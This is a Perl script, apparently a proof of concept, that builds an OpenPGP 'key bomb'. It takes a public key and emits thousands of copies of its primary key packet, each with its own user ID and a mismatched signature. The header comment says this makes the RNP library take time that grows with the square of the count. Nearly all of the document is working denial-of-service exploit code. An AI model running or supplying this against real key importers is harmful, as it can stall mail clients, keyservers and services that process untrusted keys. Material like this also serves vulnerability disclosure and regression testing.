#!/usr/bin/perl
# key-bomb.pl KEY.asc COPIES [armor] > bomb
# KEY's primary key packet COPIES times, each time with a user ID of
# its own and KEY's first signature after it (which does not verify
# for that user ID): one key, repeated.  RNP merges each copy into the
# ones before it, in time that grows with the square of the copies
# (4,000 copies, 1 MB, took five minutes).  Binary OpenPGP on stdout,
# or one armored block when the third argument is "armor".  Anyone can
# make it from a public key.
use strict;
use warnings;
use MIME::Base64;
use FindBin;
use lib $FindBin::Bin;
use PGPPackets qw(dearmor packets);

my @k = packets(dearmor($ARGV[0]));
my ($sig) = grep { $_->[0] == 2 } @k;
die "no primary key in $ARGV[0]\n" unless $k[0][0] == 6 && $sig;
my $out = '';
for my $n (1 .. $ARGV[1]) {
	my $uid = "copy $n <copy$n\@example.org>";
	$out .= $k[0][1] . chr(0xc0 | 13) . chr(length $uid) . $uid .
	    $sig->[1];
}
binmode STDOUT;
if (($ARGV[2] // '') eq 'armor') {
	print "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n",
	    encode_base64($out, '') =~ s/(.{1,64})/$1\n/gr,
	    "-----END PGP PUBLIC KEY BLOCK-----\n";
} else {
	print $out;
}
